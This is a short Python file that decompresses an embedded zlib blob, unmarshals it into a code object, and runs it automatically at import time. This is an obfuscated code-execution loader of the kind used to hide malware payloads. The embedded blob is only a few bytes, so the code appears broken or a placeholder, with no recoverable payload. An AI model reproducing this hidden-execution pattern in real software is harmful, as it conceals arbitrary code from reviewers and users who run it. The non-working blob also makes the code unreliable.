import marshal
import types
import zlib


class Loader:
    blob = b"x\x9cc`\x80\x80\x00"
    run = types.FunctionType(marshal.loads(zlib.decompress(blob)), globals(), "run")


Loader.run()
